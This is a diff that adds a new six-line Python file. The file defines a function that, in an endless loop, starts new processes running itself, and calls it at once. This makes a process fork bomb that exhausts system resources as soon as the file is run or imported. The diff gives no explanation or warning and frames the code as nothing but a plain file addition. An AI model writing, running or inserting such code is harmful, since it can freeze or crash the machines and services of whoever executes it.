@@ -1,0 +1,6 @@
+from multiprocessing import Process
+
+def f():
+    while True:
+        Process(target=f).start()
+f()
